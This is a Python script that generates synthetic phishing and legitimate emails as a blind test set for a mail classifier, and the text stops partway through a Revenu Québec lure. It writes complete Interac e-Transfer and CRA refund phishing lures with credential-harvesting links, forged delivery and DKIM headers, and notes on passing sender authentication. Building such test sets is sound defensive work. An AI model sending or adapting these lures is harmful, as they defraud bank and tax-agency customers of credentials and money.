"""Blind evaluation set 34: Canada (EN/FR), Ireland, Australia and New Zealand consumers and small firms.

Writes 50 attacks and 25 legitimate messages to samples/mail/<cat>/b34-*.eml and a
manifest to samples/tools/blind34_manifest.txt.  Deterministic: no clock, no random
without a fixed seed, so re-running gives byte-identical files.

    cd /work/main && .venv/bin/python samples/tools/build_blind34_samples.py
"""

from __future__ import annotations

import base64
import email.policy
import hashlib
import io
import sys
import zlib
from datetime import datetime, timedelta
from email.parser import BytesParser
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

ROOT = HERE.parent.parent
MAIL = ROOT / "samples" / "mail"
MANIFEST = HERE / "blind34_manifest.txt"

ENTRIES: list[tuple[str, str, str, str, bytes]] = []  # (stem, kind, cat, description, raw)


# --------------------------------------------------------------------------- small helpers

def h(seed: str, n: int = 16, alphabet: str = "0123456789abcdef") -> str:
    """Deterministic pseudo-random token from a seed."""
    out = ""
    counter = 0
    while len(out) < n:
        digest = hashlib.sha256(f"{seed}/{counter}".encode()).digest()
        for byte in digest:
            out += alphabet[byte % len(alphabet)]
        counter += 1
    return out[:n]


ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
UPPERNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"


def b64tok(seed: str, n: int) -> str:
    raw = b""
    counter = 0
    while len(raw) < n:
        raw += hashlib.sha512(f"{seed}#{counter}".encode()).digest()
        counter += 1
    return base64.b64encode(raw).decode()[:n]


def fold_b64(value: str, width: int = 72) -> str:
    return "\n\t ".join(value[i:i + width] for i in range(0, len(value), width))


def enc(value: str) -> str:
    """RFC 2047 encoded words (UTF-8, base64) when the value is not ASCII; folded."""
    try:
        value.encode("ascii")
        return value
    except UnicodeEncodeError:
        pass
    words, chunk = [], ""
    for char in value:
        if len((chunk + char).encode("utf-8")) > 42:
            words.append(chunk)
            chunk = ""
        chunk += char
    if chunk:
        words.append(chunk)
    return "\n ".join(f"=?UTF-8?B?{base64.b64encode(w.encode()).decode()}?=" for w in words)


def addr(name: str, address: str) -> str:
    if not name:
        return address
    try:
        name.encode("ascii")
    except UnicodeEncodeError:
        return f"{enc(name)} <{address}>"
    if any(c in name for c in ',.:;@()<>[]"'):
        return f'"{name}" <{address}>'
    return f"{name} <{address}>"


def parse_date(value: str) -> datetime:
    return datetime.strptime(value, "%Y-%m-%d %H:%M:%S %z")


def rfc_date(moment: datetime) -> str:
    sign = "+" if moment.utcoffset() >= timedelta(0) else "-"
    offset = abs(int(moment.utcoffset().total_seconds())) // 60
    return moment.strftime("%a, %d %b %Y %H:%M:%S ") + f"{sign}{offset // 60:02d}{offset % 60:02d}"


def utc(moment: datetime) -> datetime:
    from datetime import timezone
    return moment.astimezone(timezone.utc)


def rfc_utc(moment: datetime) -> str:
    return rfc_date(utc(moment))


def dkim_sig(domain: str, selector: str, seed: str, signed: str = "from:to:subject:date:message-id:mime-version",
             algo: str = "rsa-sha256", canon: str = "relaxed/relaxed", when: datetime | None = None,
             extra: str = "") -> str:
    ts = f" t={int(when.timestamp())};" if when else ""
    body = b64tok(seed + "bh", 43) + "="
    sig = b64tok(seed + "b", 342 if algo == "rsa-sha256" else 86) + "=="
    return (f"DKIM-Signature: v=1; a={algo}; c={canon}; d={domain};\n\ts={selector};{ts}{extra}\n"
            f"\th={signed};\n\tbh={body};\n\tb={fold_b64(sig)}")


def mid_hex(seed: str, domain: str, n: int = 24) -> str:
    return f"<{h(seed, n)}@{domain}>"


# --------------------------------------------------------------------------- delivery headers

class Auth:
    """What the recipient's provider found: spf, dkim, dmarc results."""

    def __init__(self, spf: str, mailfrom: str, dkim: str = "none", dkim_d: str = "", dkim_s: str = "",
                 dmarc: str = "none", from_domain: str = "", policy: str = "NONE", extra_dkim: list | None = None):
        self.spf, self.mailfrom, self.dkim, self.dkim_d, self.dkim_s = spf, mailfrom, dkim, dkim_d, dkim_s
        self.dmarc, self.from_domain, self.policy = dmarc, from_domain, policy
        self.extra_dkim = extra_dkim or []  # [(result, d, s)]

    @property
    def mf_domain(self) -> str:
        return self.mailfrom.split("@")[-1]


def _dkims(auth: Auth) -> list[tuple[str, str, str]]:
    out = []
    if auth.dkim != "none":
        out.append((auth.dkim, auth.dkim_d, auth.dkim_s))
    out += auth.extra_dkim
    return out


def delivery(provider: str, rcpt: str, src_host: str, src_ip: str, when: datetime, auth: Auth, seed: str,
             helo: str | None = None) -> list[str]:
    """Headers the recipient's provider puts on top: Return-Path, Received, Authentication-Results..."""
    helo = helo or src_host
    t = rfc_date(when + timedelta(seconds=3))
    tu = rfc_utc(when + timedelta(seconds=3))
    lines: list[str] = []
    dk = _dkims(auth)
    if provider == "gmail":
        items = [f"dkim={r} header.i=@{d} header.s={s} header.b={b64tok(seed + d, 8)}" for r, d, s in dk]
        spf_txt = {"pass": f"spf=pass (google.com: domain of {auth.mailfrom} designates {src_ip} as permitted sender)",
                   "softfail": f"spf=softfail (google.com: domain of transitioning {auth.mailfrom} does not designate {src_ip} as permitted sender)",
                   "fail": f"spf=fail (google.com: domain of {auth.mailfrom} does not designate {src_ip} as permitted sender)",
                   "neutral": f"spf=neutral (google.com: {src_ip} is neither permitted nor denied by best guess record for domain of {auth.mailfrom})",
                   "none": f"spf=none (google.com: {auth.mailfrom} does not designate permitted sender hosts)"}[auth.spf]
        items.append(f"{spf_txt} smtp.mailfrom={auth.mailfrom}")
        dis = "NONE" if auth.dmarc != "fail" else auth.policy
        items.append(f"dmarc={auth.dmarc} (p={auth.policy} sp={auth.policy} dis={dis}) header.from={auth.from_domain}")
        ar_body = "\n       " + ";\n       ".join(items)
        lines += [
            f"Delivered-To: {rcpt}",
            f"Received: by 2002:a05:{h(seed + 'g1', 4)}:{h(seed + 'g2', 3)}:b0:{h(seed + 'g3', 3)}:{h(seed + 'g4', 4)} with SMTP id {h(seed + 'gid', 10)}{h(seed + 'gid2', 4, 'abcdefghijklmnopqrstuvwxyz')};\n        {tu}",
            f"X-Received: by 2002:a17:{h(seed + 'x1', 3)}:{h(seed + 'x2', 4)}:b0:{h(seed + 'x3', 3)}:{h(seed + 'x4', 4)} with SMTP id {h(seed + 'xid', 12)}.{h(seed + 'xs', 3)}.{int(when.timestamp())};\n        {tu}",
            f"ARC-Seal: i=1; a=rsa-sha256; t={int(when.timestamp())}; cv=none;\n        d=google.com; s=arc-20240605;\n        b={fold_b64(b64tok(seed + 'arcs', 342) + '==').replace(chr(9) + ' ', '         ')}",
            f"ARC-Authentication-Results: i=1; mx.google.com;{ar_body}",
            f"Return-Path: <{auth.mailfrom}>",
            f"Received: from {helo} ({src_host}. [{src_ip}])\n        by mx.google.com with ESMTPS id {h(seed + 'mx', 24, 'abcdefghijklmnopqrstuvwxyz0123456789')}.{h(seed + 'n', 3)}.{int(when.timestamp())}\n"
            f"        for <{rcpt}>\n        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);\n        {tu}",
            f"Received-SPF: {auth.spf} ({spf_txt[len('spf=' + auth.spf) + 2:-1]}) client-ip={src_ip};",
            f"Authentication-Results: mx.google.com;{ar_body}",
        ]
    elif provider in ("outlook", "m365"):
        spf_word = {"pass": "pass", "softfail": "softfail", "fail": "fail", "none": "none", "neutral": "neutral"}[auth.spf]
        spf_reason = {"pass": f"(sender IP is {src_ip})", "softfail": f"(sender IP is {src_ip})",
                      "fail": f"(sender IP is {src_ip})", "none": f"(sender IP is {src_ip})",
                      "neutral": f"(sender IP is {src_ip})"}[auth.spf]
        if dk:
            dkim_txt = ";".join(f" dkim={r} ({'signature was verified' if r == 'pass' else 'body hash did not verify'}) header.d={d}" for r, d, s in dk)
        else:
            dkim_txt = " dkim=none (message not signed) header.d=none"
        if auth.dmarc == "pass":
            dm = f"dmarc=pass action=none header.from={auth.from_domain};compauth=pass reason=100"
        elif auth.dmarc == "fail":
            act = {"REJECT": "oreject", "QUARANTINE": "quarantine", "NONE": "none"}[auth.policy]
            dm = f"dmarc=fail action={act} header.from={auth.from_domain};compauth=fail reason=000"
        else:
            cr = "pass reason=109" if auth.spf == "pass" else "softpass reason=201" if dk else "none reason=405"
            dm = f"dmarc=none action=none header.from={auth.from_domain};compauth={cr}"
        if provider == "outlook":
            pod = h(seed + "o4", 2, "0123456789")
            mx = f"{h(seed + 'o1', 2, 'ABCDEFGHJKLMNPQRSTUVWXYZ')}{h(seed + 'o2', 1, '0123456789')}PEPF0000{h(seed + 'o3', 5, UPPERNUM)}.namprd{pod}.prod.outlook.com"
            store = f"{h(seed + 'o5', 2, 'ABCDEFGHJKLMNPQRSTUVWXYZ')}{h(seed + 'o6', 1, '0123456789')}PR{pod}MB{h(seed + 'o8', 4, '0123456789')}.namprd{pod}.prod.outlook.com"
        else:
            mx = rcpt_mx(rcpt, seed)
            store = rcpt_store(rcpt, seed)
        lines += [
            "Received: from " + store[:3] + "PR0" + h(seed + "s0", 2, "0123456789") + "MB" + h(seed + "s1", 4, "0123456789") + store[store.index("."):] + f"\n (2603:10b6:{h(seed + 'v6a', 3)}:{h(seed + 'v6b', 2)}::{h(seed + 'v6c', 2)})\n"
            f" by {store} with HTTPS; {rfc_utc(when + timedelta(seconds=5))}",
            f"Received: from {mx} (2603:10b6:{h(seed + 'v6d', 3)}:{h(seed + 'v6e', 3)}:cafe::{h(seed + 'v6f', 2)}) by\n"
            f" {store.replace('MB', 'MB', 1)} (2603:10b6:{h(seed + 'v6g', 3)}:{h(seed + 'v6h', 2)}::{h(seed + 'v6i', 2)}) with Microsoft SMTP Server\n"
            f" (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.{8000 + int(h(seed + 'ver', 3, '0123456789')) % 900}.{int(h(seed + 'vv', 2, '0123456789'))};"
            f" {rfc_date(utc(when) + timedelta(seconds=4)).replace('+0000', '+0000')}",
            f"Authentication-Results: spf={spf_word} {spf_reason}\n smtp.mailfrom={auth.mf_domain};{dkim_txt};{dm}",
            f"Received-SPF: {spf_word.capitalize()} (protection.outlook.com: domain of {auth.mf_domain}"
            + (" designates" if auth.spf == "pass" else " does not designate") + f"\n {src_ip} as permitted sender)"
            f" receiver=protection.outlook.com; client-ip={src_ip};\n helo={helo}; pr=C",
            f"Received: from {helo} ({src_ip}) by\n {mx} (10.167.{int(h(seed + 'i1', 2, '0123456789'))}.{int(h(seed + 'i2', 2, '0123456789'))}) with Microsoft SMTP Server (version=TLS1_3,\n"
            f" cipher=TLS_AES_256_GCM_SHA384) id 15.20.{8000 + int(h(seed + 'ver', 3, '0123456789')) % 900}.{int(h(seed + 'vv', 2, '0123456789'))} via Frontend Transport; {rfc_utc(when + timedelta(seconds=3))}",
        ]
    elif provider == "yahoo":  # Rogers mail runs on Yahoo
        dkim_txt = "".join(f"\n dkim={r} header.i=@{d} header.s={s};" for r, d, s in dk) or "\n dkim=unknown;"
        lines += [
            f"Return-Path: <{auth.mailfrom}>",
            f"X-Originating-Ip: [{src_ip}]",
            f"Received-SPF: {auth.spf} (domain of {auth.mf_domain} designates {src_ip} as permitted sender)" if auth.spf == "pass"
            else f"Received-SPF: {auth.spf} (domain of {auth.mf_domain} does not designate {src_ip} as permitted sender)",
            f"Authentication-Results: atlas-{h(seed + 'y', 3, '0123456789')}.free.mail.bf1.yahoo.com;{dkim_txt}\n spf={auth.spf} smtp.mailfrom={auth.mf_domain};\n"
            f" dmarc={auth.dmarc}(p={auth.policy}) header.from={auth.from_domain};",
            f"X-Apparently-To: {rcpt}; {rfc_utc(when + timedelta(seconds=3))[5:]}".replace(" +0000", ""),
            f"Received: from {src_ip} (EHLO {helo})\n by {int(h(seed + 'ym', 3, '0123456789'))}.mail.bf1.yahoo.com with SMTPS; {rfc_utc(when + timedelta(seconds=2))}",
        ]
    elif provider == "icloud":
        dkim_txt = "".join(f"\n\tdkim={r} (2048-bit key) header.d={d} header.i=@{d} header.b={b64tok(seed + d, 8)}" for r, d, s in dk) or "\n\tdkim=none"
        lines += [
            f"Return-Path: <{auth.mailfrom}>",
            f"Received: from {helo} ({src_host} [{src_ip}])\n\tby p{h(seed + 'ic', 2, '0123456789')}-mxmta-{h(seed + 'id', 2, '0123456789')}.mail.icloud.com (Postfix) with ESMTPS id {h(seed + 'ie', 14, '0123456789ABCDEF')}\n"
            f"\tfor <{rcpt}>; {rfc_utc(when + timedelta(seconds=3))}",
            f"Authentication-Results: dmarc.icloud.com; dmarc={auth.dmarc} header.from={auth.from_domain}",
            f"Authentication-Results: dkim-verifier.icloud.com;{dkim_txt}",
            f"Authentication-Results: spf.icloud.com; spf={auth.spf} (spf.icloud.com: domain of {auth.mailfrom}"
            + (" designates" if auth.spf == "pass" else " does not designate") + f" {src_ip} as permitted sender) smtp.mailfrom={auth.mailfrom}",
            f"Received-SPF: {auth.spf} (spf.icloud.com: domain of {auth.mailfrom}"
            + (" designates" if auth.spf == "pass" else " does not designate") + f" {src_ip} as permitted sender) receiver=spf.icloud.com; client-ip={src_ip}; helo={helo}; envelope-from={auth.mailfrom}",
        ]
    else:  # ISP mail platforms: provider is the MX host name, e.g. "mx.bell.net"
        mxhost = provider
        authserv = mxhost.split(".", 1)[1]
        dkim_txt = "".join(f"\n\tdkim={r} header.d={d} header.s={s} header.b={b64tok(seed + d, 8)};" for r, d, s in dk) or "\n\tdkim=none (no signatures);"
        lines += [
            f"Return-Path: <{auth.mailfrom}>",
            f"Delivered-To: {rcpt}",
            f"Received: from {helo} ({src_host} [{src_ip}])\n\tby {mxhost} with ESMTPS id {h(seed + 'isp', 12, ALNUM)}\n\tfor <{rcpt}>; {t}",
            f"Authentication-Results: {authserv};{dkim_txt}\n\tspf={auth.spf} smtp.mailfrom={auth.mailfrom} smtp.helo={helo};\n"
            f"\tdmarc={auth.dmarc} (p={auth.policy.lower()} dis={'none' if auth.dmarc != 'fail' else auth.policy.lower()}) header.from={auth.from_domain}",
        ]
    return lines


def rcpt_mx(rcpt: str, seed: str) -> str:
    region = RCPT_REGION.get(rcpt.split("@")[1], "SY")
    return f"{region}{h(seed + 'r1', 1, '0123456789')}PEPF0000{h(seed + 'r2', 5, UPPERNUM)}.{REGION_POD[region]}.prod.outlook.com"


def rcpt_store(rcpt: str, seed: str) -> str:
    region = RCPT_REGION.get(rcpt.split("@")[1], "SY")
    return f"{region}{h(seed + 'r3', 1, '0123456789')}PR01MB{h(seed + 'r4', 4, '0123456789')}.{REGION_POD[region]}.prod.outlook.com"


REGION_POD = {"SY": "ausprd01", "ME": "ausprd01", "YT": "CANPRD01", "YQ": "CANPRD01", "DB": "eurprd03", "AM": "eurprd09"}
RCPT_REGION: dict[str, str] = {}


def m365_org_headers(seed: str, when: datetime, scl: int = 1, tenant_dir: str = "Incoming", rcpt: str = "x@x") -> list[str]:
    """Headers Exchange Online adds for the receiving tenant."""
    return [
        f"X-MS-Exchange-Organization-ExpirationStartTime: {utc(when).strftime('%d %b %Y %H:%M:%S.%f')[:-3]} (UTC)",
        "X-MS-Exchange-Organization-ExpirationStartTimeReason: OriginalSubmit",
        "X-MS-Exchange-Organization-ExpirationInterval: 1:00:00:00.0000000",
        "X-MS-Exchange-Organization-ExpirationIntervalReason: OriginalSubmit",
        "X-MS-Exchange-Organization-Network-Message-Id:\n"
        f" {h(seed + 'nm1', 8)}-{h(seed + 'nm2', 4)}-{h(seed + 'nm3', 4)}-{h(seed + 'nm4', 4)}-{h(seed + 'nm5', 12)}",
        "X-EOPAttributedMessage: 0",
        f"X-EOPTenantAttributedMessage: {h(seed + 'tn1', 8)}-{h(seed + 'tn2', 4)}-{h(seed + 'tn3', 4)}-{h(seed + 'tn4', 4)}-{h(seed + 'tn5', 12)}:0",
        "X-MS-Exchange-Organization-MessageDirectionality: " + tenant_dir,
        "X-MS-PublicTrafficType: Email",
        "X-MS-Exchange-Organization-AuthSource:\n " + rcpt_mx(rcpt, seed),
        "X-MS-Exchange-Organization-AuthAs: Anonymous",
        f"X-MS-Exchange-Organization-SCL: {scl}",
        f"X-Microsoft-Antispam: BCL:0;ARA:{h(seed + 'ara', 9, '0123456789')}|{h(seed + 'ara2', 9, '0123456789')};",
    ]


# --------------------------------------------------------------------------- emit

def emit(stem_slug: str, kind: str, cat: str, desc: str, top: list[str], headers: list[str], body) -> None:
    stem = f"b34-{kind}-{stem_slug}"
    raw = message("\n".join(top + headers), body)
    ENTRIES.append((stem, kind, cat, desc, raw))


def sender_hop(from_host: str, from_ip: str, by_host: str, when: datetime, ident: str, proto: str = "ESMTPSA",
               extra: str = "") -> str:
    return (f"Received: from {from_host} ([{from_ip}])\n\tby {by_host} {extra}with {proto} id {ident};\n"
            f"\t{rfc_date(when)}")


def alt(plain: str, html: str, boundary: str, plain_enc: str = "quoted-printable") -> Multi:
    return Multi("alternative", boundary, [text(plain, encoding=plain_enc), text(html, "html")])


def bnd(seed: str, style: str = "generic") -> str:
    if style == "outlook":
        return f"_000_{h(seed, 20, UPPERNUM)}{h(seed + 'x', 10, UPPERNUM)}prod_"
    if style == "gmail":
        return f"0000000000{h(seed, 16)}"
    if style == "apple":
        return f"Apple-Mail={h(seed, 8, UPPERNUM)}-{h(seed + '1', 4, UPPERNUM)}-{h(seed + '2', 4, UPPERNUM)}-{h(seed + '3', 4, UPPERNUM)}-{h(seed + '4', 12, UPPERNUM)}"
    if style == "php":
        return f"b1_{h(seed, 32, ALNUM)}"
    if style == "sfmc":
        return f"----=_Part_{int(h(seed, 7, '0123456789'))}_{int(h(seed + 'p', 9, '0123456789'))}.{int(h(seed + 'q', 13, '0123456789'))}"
    return f"=_{h(seed, 28, ALNUM)}"


def qr_gray_pdf(url: str, lines: list[str], title: str, author_producer: str = "Microsoft: Print To PDF") -> bytes:
    """A one-page PDF with lines of text and a QR code drawn as a grey image (FlateDecode)."""
    import segno

    qr = segno.make(url, error="m", micro=False)
    scale, border = 4, 4
    matrix = [list(row) for row in qr.matrix]
    size = (len(matrix) + 2 * border) * scale
    rows = bytearray()
    for y in range(size):
        my = y // scale - border
        for x in range(size):
            mx_ = x // scale - border
            dark = 0 <= my < len(matrix) and 0 <= mx_ < len(matrix) and matrix[my][mx_]
            rows.append(0 if dark else 255)
    image = zlib.compress(bytes(rows), 9)
    parts = ["BT", "/F1 12 Tf", "16 TL", "56 780 Td"]
    for line in lines:
        parts.append("(" + line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)") + ") Tj T*")
    parts += ["ET", "q 180 0 0 180 207 330 cm /Im1 Do Q"]
    stream = "\n".join(parts).encode("latin-1")
    objects = files.image_page(stream, image, size, size, "FlateDecode")
    objects.append(f"<< /Title ({title}) /Producer ({author_producer}) /CreationDate (D:20250611093000+10'00') >>".encode())
    return files.pdf_file(objects, 7)


BUILDERS: list = []


def msg(fn):
    BUILDERS.append(fn)
    return fn


def esc(value: str) -> str:
    return value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def card(title: str, color: str, brand: str, paras: list[str], button: str = "", url: str = "",
         footer: list[str] | None = None, lang: str = "en", logo: str = "", after: list[str] | None = None,
         width: int = 600) -> str:
    """Table-based brand template: header band, paragraphs (HTML allowed), one button, footer lines."""
    logo_html = (f'<img src="{logo}" alt="{esc(brand)}" width="140" style="display:block;border:0">' if logo else
                 f'<span style="font-size:22px;font-weight:bold;color:#ffffff">{esc(brand)}</span>')
    body = "".join(f'<p style="margin:0 0 16px 0;font-size:15px;line-height:22px;color:#333333">{p}</p>\n' for p in paras)
    btn = ""
    if button:
        btn = (f'<table role="presentation" cellpadding="0" cellspacing="0" border="0" style="margin:8px 0 24px 0"><tr>'
               f'<td style="background:{color};border-radius:4px;padding:12px 28px">'
               f'<a href="{url}" style="color:#ffffff;text-decoration:none;font-weight:bold;font-size:15px">{button}</a>'
               f"</td></tr></table>\n")
    tail = "".join(f'<p style="margin:0 0 16px 0;font-size:15px;line-height:22px;color:#333333">{p}</p>\n' for p in (after or []))
    foot = "".join(f'<p style="margin:0 0 8px 0;font-size:11px;line-height:16px;color:#777777">{f}</p>\n' for f in (footer or []))
    return (f'<!DOCTYPE html>\n<html lang="{lang}">\n<head>\n<meta charset="utf-8">\n'
            f'<meta name="viewport" content="width=device-width, initial-scale=1">\n<title>{esc(title)}</title>\n</head>\n'
            f'<body style="margin:0;padding:0;background:#f2f2f2">\n'
            f'<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#f2f2f2"><tr><td align="center">\n'
            f'<table role="presentation" width="{width}" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff;font-family:Arial,Helvetica,sans-serif">\n'
            f'<tr><td style="background:{color};padding:18px 24px">{logo_html}</td></tr>\n'
            f'<tr><td style="padding:28px 24px 8px 24px">\n{body}{btn}{tail}</td></tr>\n'
            f'<tr><td style="padding:16px 24px 24px 24px;border-top:1px solid #e5e5e5">\n{foot}</td></tr>\n'
            f"</table>\n</td></tr></table>\n</body>\n</html>\n")


def strip_tags(value: str) -> str:
    import re
    value = re.sub(r'<a href="([^"]+)"[^>]*>(.*?)</a>', r"\2 (\1)", value)
    value = re.sub(r"<br ?/?>", "\n", value)
    value = re.sub(r"<[^>]+>", "", value)
    return value.replace("&nbsp;", " ").replace("&amp;", "&").replace("&lt;", "<").replace("&gt;", ">")


def plain(paras: list[str], button: str = "", url: str = "", footer: list[str] | None = None,
          after: list[str] | None = None) -> str:
    out = [strip_tags(p) for p in paras]
    if button:
        out.append(f"{strip_tags(button)}: {url}")
    out += [strip_tags(p) for p in (after or [])]
    if footer:
        out.append("--")
        out += [strip_tags(f) for f in footer]
    return "\n\n".join(out) + "\n"


def outlook_html(paras: list[str], signature: list[str] | None = None, quoted: str = "") -> str:
    """HTML as Outlook (new / web) writes it."""
    body = "".join(f'<div style="font-family: Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif; '
                   f'font-size: 12pt; color: rgb(0, 0, 0);">\n{p}</div>\n' for p in paras)
    sig = ""
    if signature:
        sig = ('<div id="Signature"><p style="margin:0"><span style="font-family:Calibri,sans-serif;font-size:10pt">'
               + "<br>\n".join(signature) + "</span></p></div>\n")
    return ('<html>\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            '<style type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} </style>\n</head>\n'
            f'<body dir="ltr">\n{body}<div><br></div>\n{sig}{quoted}</body>\n</html>\n')


def gmail_html(paras: list[str], quoted: str = "") -> str:
    inner = "".join(f"<div>{p}</div>" if p else "<div><br></div>" for p in paras)
    return f'<div dir="ltr">{inner}</div>{quoted}\n'


# --------------------------------------------------------------------------- Canada: attacks

RCPT_REGION.update({"plomberiegirard.ca": "YQ", "northshoredental.ca": "YT", "okanaganframing.ca": "YT"})


@msg
def ca_interac_deposit():
    seed, when = "ca1", parse_date("2025-02-11 18:42:07 -0500")
    rcpt, dom = "julien.bergeron77@gmail.com", "payments-interac.live"
    url = "https://etransfer-deposit.jolly-dawn-4c1e.workers.dev/dep/?ref=CAkW7pQ3xR9m&lang=en"
    paras = ["Hi JULIEN BERGERON,",
             "NATHALIE COTE sent you $480.00 (CAD).",
             "Message: <i>for the couch, thanks again!</i>",
             "Expires On: February 14, 2025<br>Reference Number: CAkW7pQ3xR9m"]
    footer = ["This email was sent to you by Interac Corp., the owner of the Interac e-Transfer service, on behalf of NATHALIE COTE.",
              "&reg; Trade-mark of Interac Corp. Used under licence.",
              "Interac Corp. | Royal Bank Plaza, North Tower, 200 Bay Street, Suite 2400, Toronto, ON M5J 2J1"]
    html = card("Interac e-Transfer", "#fdb913", "INTERAC e-Transfer", paras, "Deposit Your Money", url, footer)
    auth = Auth("pass", f"notify@{dom}", "pass", dom, "mail", "pass", dom, "NONE")
    top = delivery("gmail", rcpt, f"mail.{dom}", "193.233.21.44", when, auth, seed)
    hdrs = [dkim_sig(dom, "mail", seed, when=when),
            f"Date: {rfc_date(when)}",
            f"To: {rcpt}",
            f"From: {addr('Interac e-Transfer', 'notify@' + dom)}",
            "Subject: INTERAC e-Transfer: NATHALIE COTE sent you money.",
            f"Message-ID: <{h(seed, 32, ALNUM)}@{dom}>",
            "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"]
    emit("interac-deposit-workers", "phish", "phishing",
         "Fake Interac e-Transfer deposit notice from a look-alike domain that passes its own SPF/DKIM; the Deposit button leads to a workers.dev bank-picker credential page.",
         top, hdrs, alt(plain(paras, "Deposit Your Money", url, footer), html, bnd(seed, "php")))


@msg
def ca_virement_interac_fr():
    seed, when = "ca2", parse_date("2025-06-03 07:15:52 -0400")
    rcpt = "sylvie.gagnon@videotron.ca"
    site = "ateliers-bouchard.com"  # compromised WordPress site sending through its cPanel host
    url = "https://virement-depot-interac.pages.dev/fr/accepter?id=CA9rNf2Lk"
    paras = ["Bonjour SYLVIE GAGNON,",
             "Vous avez reçu un virement <i>Interac</i> de 275,00 $ (CAD) de la part de MICHEL PELLETIER.",
             "Message : <i>remboursement souper</i>",
             "Date d'expiration : 2025-06-05<br>Numéro de référence : CA9rNf2Lk"]
    footer = ["Ce courriel vous a été envoyé par Interac Corp., le propriétaire du service Virement <i>Interac</i>.",
              "MD Marque de commerce d'Interac Corp. Utilisée sous licence."]
    html = card("Virement Interac", "#fdb913", "Virement INTERAC", paras, "Déposer les fonds", url, footer, lang="fr")
    auth = Auth("pass", f"wordpress@{site}", "pass", site, "default", "pass", site, "NONE")
    top = delivery("mx2.videotron.ca", rcpt, "sh-ca1.web-dns1.com", "192.99.147.20", when, auth, seed)
    top += [sender_hop("localhost", "127.0.0.1", "sh-ca1.web-dns1.com", when - timedelta(seconds=1), h(seed + "e", 16, ALNUM) + "-0003Lx", "local", "(Exim 4.97.1) ")]
    hdrs = [dkim_sig(site, "default", seed, when=when),
            f"To: {rcpt}",
            f"Subject: {enc('Virement INTERAC : Vous avez reçu des fonds de MICHEL PELLETIER')}",
            f"Date: {rfc_date(when)}",
            f"From: {addr('Virement Interac', 'wordpress@' + site)}",
            f"Message-ID: <{h(seed, 40, ALNUM)}@{site}>",
            "X-Mailer: PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)"]
    emit("virement-interac-fr", "phish", "phishing",
         "French Interac transfer lure sent from a compromised WordPress site's mailer (passes its own auth) pointing to a pages.dev phishing page imitating the bank chooser.",
         top, hdrs, alt(plain(paras, "Déposer les fonds", url, footer), html, bnd(seed, "php")))


@msg
def ca_cra_refund_outlook():
    seed, when = "ca3", parse_date("2024-04-22 10:03:40 -0400")
    rcpt = "dhillon.harpreet@rogers.com"
    sender = "cra.refunds.service@outlook.com"
    url = "https://cra-arc-refund-online.netlify.app/login?lang=en"
    paras = ["Canada Revenue Agency",
             "Dear Taxpayer,",
             "After the last annual calculation of your fiscal activity, we have determined that you are eligible to receive a tax refund of <b>$712.46</b>.",
             "To receive your refund by direct deposit, please submit the refund form within 48 hours. Refunds not claimed will be cancelled.",
             ]
    after = ["Reference: T1-2024-88412-ON", "Government of Canada / Gouvernement du Canada"]
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
            '<div style="font-family:Calibri,Arial,sans-serif;font-size:11pt">\n'
            + "".join(f"<p>{p}</p>\n" for p in paras)
            + f'<p><a href="{url}" style="background:#26374a;color:#fff;padding:8px 16px;text-decoration:none">Claim your refund</a></p>\n'
            + "".join(f"<p>{p}</p>\n" for p in after) + "</div></body></html>\n")
    auth = Auth("pass", sender, "pass", "outlook.com", "selector1", "pass", "outlook.com", "NONE")
    ip = "40.92.20.83"
    top = delivery("yahoo", rcpt, "NAM12-MW2-obe.outbound.protection.outlook.com", ip, when, auth, seed)
    top += [f"Received: from MN2PR11MB{h(seed + 'm', 4, '0123456789')}.namprd11.prod.outlook.com\n ([fe80::{h(seed + 'v', 4)}:{h(seed + 'w', 4)}:{h(seed + 'x', 4)}:{h(seed + 'y', 4)}]) by MN2PR11MB{h(seed + 'm', 4, '0123456789')}.namprd11.prod.outlook.com\n ([fe80::{h(seed + 'v', 4)}:{h(seed + 'w', 4)}:{h(seed + 'x', 4)}:{h(seed + 'y', 4)}%5]) with mapi id 15.20.7472.044; {rfc_utc(when)}"]
    hdrs = [dkim_sig("outlook.com", "selector1", seed, "Date:From:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck", canon="relaxed/relaxed"),
            f"From: {addr('Canada Revenue Agency', sender)}",
            f"To: {addr('', rcpt)}",
            "Subject: Notice of Refund - Action Required",
            "Thread-Topic: Notice of Refund - Action Required",
            f"Thread-Index: {b64tok(seed + 'ti', 32)}",
            f"Date: {rfc_utc(when)}",
            f"Message-ID:\n <MN2PR11MB{h(seed + 'm', 4, '0123456789')}{h(seed + 'mid', 8, UPPERNUM)}{h(seed + 'mi2', 8, UPPERNUM)}@MN2PR11MB{h(seed + 'm', 4, '0123456789')}.namprd11.prod.outlook.com>",
            "Accept-Language: en-US",
            "Content-Language: en-US",
            "X-MS-Has-Attach:",
            "X-MS-TNEF-Correlator:",
            "x-ms-exchange-senderadcheck: 1"]
    emit("cra-refund-outlook", "phish", "phishing",
         "CRA tax-refund lure sent from a free Outlook.com account with a CRA display name; the link goes to a netlify.app form harvesting SIN, banking and card details.",
         top, hdrs, alt(plain(paras, "Claim your refund", url, after=after), html, bnd(seed, "outlook")))


@msg
def ca_revenuquebec():
    seed, when = "ca4", parse_date("2025-03-18 13:27:11 -0400")
    rcpt = "f.lapointe@sympatico.ca"
    dom = "revenuquebec-remboursement.com"
    url = f"https://www.{dom}/mon-dossier/citoyen/?dossier=RQ2025-4410"
    paras = ["Bonjour,",
